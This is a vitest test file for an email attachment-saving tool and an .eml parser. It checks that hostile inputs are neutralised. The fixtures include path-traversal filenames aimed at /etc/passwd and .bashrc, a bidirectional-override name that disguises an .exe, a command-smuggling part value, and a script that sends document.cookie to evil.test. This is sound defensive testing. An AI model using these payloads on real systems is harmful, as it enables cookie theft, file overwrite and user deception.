import { readdir, readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEmailParserTool, createEmailReadTool, createEmailSaveAttachmentTool } from '../src/index.js';
import { callTool, createEmailFixture, type EmailFixture, messageWithAttachment, oneAccount } from './email-fixture.js';

let fixture: EmailFixture;
const uids: Record<string, number> = {};
const payload = Buffer.from('%PDF-1.7 pretend report\n'.repeat(40));

beforeAll(async () => {
  fixture = await createEmailFixture();
  uids.plain = await fixture.seed(messageWithAttachment('report.pdf', payload, 'Report'));
  uids.traversal = await fixture.seed(
    messageWithAttachment('../../etc/passwd', Buffer.from('root:x:0:0:evil\n'), 'Traversal'),
  );
  uids.hidden = await fixture.seed(messageWithAttachment('..\\..\\.bashrc', Buffer.from('alias ls=rm\n'), 'Hidden'));
  uids.bidi = await fixture.seed(messageWithAttachment('invoice\u202Efdp.exe', Buffer.from('MZ'), 'Bidi'));
  uids.large = await fixture.seed(messageWithAttachment('big.bin', Buffer.alloc(20_000, 7), 'Large'));
}, 120_000);

afterAll(async () => {
  await fixture?.[Symbol.asyncDispose]();
});

const saver = (limits: Record<string, number> = {}) =>
  createEmailSaveAttachmentTool(oneAccount(fixture.account(['Read']), limits));

describe('email_save_attachment', () => {
  it('lists attachments by part in email_read and saves one through the VFS', async () => {
    const read = await callTool(createEmailReadTool(oneAccount(fixture.account(['Read']))), fixture.vfs, {
      uid: uids.plain,
    });
    expect(read.output).toMatch(/part 2: "report\.pdf" \(application\/octet-stream, about [\d.]+ K?B\)/);
    const saved = await callTool(saver(), fixture.vfs, { uid: uids.plain, part: '2', directory: '/workspace/mail' });
    expect(saved.outcome, saved.output).toBe('Success');
    expect(saved.output).toContain("as '/workspace/mail/report.pdf'");
    expect(await readFile(join(fixture.workspace, 'mail', 'report.pdf'))).toEqual(payload);
  });

  it('never replaces a file: a second save gets a numbered name', async () => {
    const saved = await callTool(saver(), fixture.vfs, { uid: uids.plain, part: '2', directory: '/workspace/mail' });
    expect(saved.output).toContain("as '/workspace/mail/report (1).pdf'");
    expect(await readFile(join(fixture.workspace, 'mail', 'report.pdf'))).toEqual(payload);
  });

  it("saves an attachment named '../../etc/passwd' only inside the given folder, under a safe name", async () => {
    const saved = await callTool(saver(), fixture.vfs, { uid: uids.traversal, part: '2', directory: '/workspace/in' });
    expect(saved.outcome, saved.output).toBe('Success');
    expect(saved.output).toContain("as '/workspace/in/passwd'");
    expect(saved.output).toContain('was made safe');
    expect(await readdir(join(fixture.workspace, 'in'))).toEqual(['passwd']);
    expect(await readdir(fixture.root.path)).toEqual(expect.not.arrayContaining(['etc']));
    expect(await readdir(fixture.outside)).toEqual([]);
  });

  it('drops leading dots, backslash paths and bidirectional overrides from names', async () => {
    const hidden = await callTool(saver(), fixture.vfs, { uid: uids.hidden, part: '2', directory: '/workspace/in' });
    expect(hidden.output).toContain("as '/workspace/in/bashrc'");
    const bidi = await callTool(saver(), fixture.vfs, { uid: uids.bidi, part: '2', directory: '/workspace/in' });
    expect(bidi.output).toContain("as '/workspace/in/invoice_fdp.exe'");
    const renamed = await callTool(saver(), fixture.vfs, {
      uid: uids.plain,
      part: '2',
      directory: '/workspace/in',
      fileName: '../../../outside/x.pdf',
    });
    expect(renamed.output).toContain("as '/workspace/in/x.pdf'");
    expect(await readdir(fixture.outside)).toEqual([]);
  });

  it('refuses a folder outside the mounts, a traversal, and a read-only mount', async () => {
    for (const directory of ['/workspace/../../outside', '/etc', '/docs']) {
      const result = await callTool(saver(), fixture.vfs, { uid: uids.plain, part: '2', directory });
      expect(result.outcome, `${directory}: ${result.output}`).not.toBe('Success');
      expect(result.output).not.toContain(fixture.root.path);
    }
    expect(await readdir(fixture.docs)).toEqual([]);
    expect(await readdir(fixture.outside)).toEqual([]);
  });

  it('refuses an attachment over the size limit and writes nothing', async () => {
    const result = await callTool(saver({ MaxAttachmentBytes: 10_000 }), fixture.vfs, {
      uid: uids.large,
      part: '2',
      directory: '/workspace/large',
    });
    expect(result.outcome).toBe('Failure');
    expect(result.output).toContain('over the limit of 10,000');
    await expect(stat(join(fixture.workspace, 'large', 'big.bin'))).rejects.toThrow();
  });

  it('refuses a part that is not an attachment, and malformed part numbers', async () => {
    const body = await callTool(saver(), fixture.vfs, { uid: uids.plain, part: '1', directory: '/workspace/in' });
    expect(body.outcome).toBe('Failure');
    expect(body.output).toContain('its attachment parts are 2');
    for (const part of ['../2', '2; DELETE', '1.2.', '']) {
      expect(saver().inputSchema.safeParse({ uid: uids.plain, part, directory: '/workspace' }).success, part).toBe(
        false,
      );
    }
  });

  it('needs the Read right', async () => {
    const tool = createEmailSaveAttachmentTool(oneAccount(fixture.account(['Organize'])));
    const result = await callTool(tool, fixture.vfs, { uid: uids.plain, part: '2', directory: '/workspace/denied' });
    expect(result.outcome).toBe('Denied');
    await expect(stat(join(fixture.workspace, 'denied'))).rejects.toThrow();
  });
});

describe('email_parser', () => {
  const parser = (limits: Record<string, number> = {}) => createEmailParserTool({ Limits: limits });

  it('reads an .eml file by virtual path, HTML as text without scripts', async () => {
    const eml = [
      'From: "Shop" <shop@example.test>',
      'To: alice@example.test',
      'Subject: =?UTF-8?Q?Gr=C3=BC=C3=9Fe?=',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="b1"',
      '',
      '--b1',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<p>Hello <b>Alice</b></p><script>document.location="https://evil.test/?"+document.cookie</script><style>.x{}</style>',
      '--b1',
      'Content-Type: text/csv; name="data.csv"',
      'Content-Disposition: attachment; filename="data.csv"',
      '',
      'a,b',
      '--b1--',
      '',
    ].join('\r\n');
    await writeFile(join(fixture.workspace, 'message.eml'), eml);
    const result = await callTool(parser(), fixture.vfs, { path: '/workspace/message.eml' });
    expect(result.outcome, result.output).toBe('Success');
    expect(result.output).toContain('Subject: Grüße');
    expect(result.output).toContain('From: Shop <shop@example.test>');
    expect(result.output).toContain('Hello Alice');
    expect(result.output).toMatch(/1\. "data\.csv" \(text\/csv, 3 B\)/);
    expect(result.output).not.toMatch(/document\.cookie|<script|evil\.test|<p>/);
  });

  it('refuses paths outside the mounts and traversal, naming no physical path', async () => {
    await writeFile(join(fixture.outside, 'secret.eml'), 'Subject: secret\r\n\r\nsecret body');
    for (const path of ['/workspace/../outside/secret.eml', '/etc/passwd', '../outside/secret.eml']) {
      const result = await callTool(parser(), fixture.vfs, { path });
      expect(result.outcome, path).not.toBe('Success');
      expect(result.output).not.toContain('secret body');
      expect(result.output).not.toContain(fixture.root.path);
    }
  });

  it('does not read a file over the message limit', async () => {
    await writeFile(join(fixture.workspace, 'big.eml'), `Subject: big\r\n\r\n${'z'.repeat(5_000)}`);
    const result = await callTool(parser({ MaxMessageBytes: 2_048 }), fixture.vfs, { path: '/workspace/big.eml' });
    expect(result.outcome).toBe('Failure');
    expect(result.output).toContain('over the limit of 2,048');
  });

  it('reads malformed input without crashing and cuts long bodies', async () => {
    await writeFile(join(fixture.workspace, 'junk.eml'), Buffer.from([0, 255, 13, 10, 13, 10, 0xc3, 0x28, 65]));
    const junk = await callTool(parser(), fixture.vfs, { path: '/workspace/junk.eml' });
    expect(['Success', 'Failure']).toContain(junk.outcome);
    await writeFile(join(fixture.workspace, 'long.eml'), `Subject: long\r\n\r\n${'w'.repeat(5_000)}`);
    const long = await callTool(parser({ MaxBodyCharacters: 100 }), fixture.vfs, { path: '/workspace/long.eml' });
    expect(long.output).toContain('[body cut: showing the first 100 of 5,000 characters]');
    const folder = await callTool(parser(), fixture.vfs, { path: '/workspace' });
    expect(folder.outcome).toBe('Failure');
  });
});
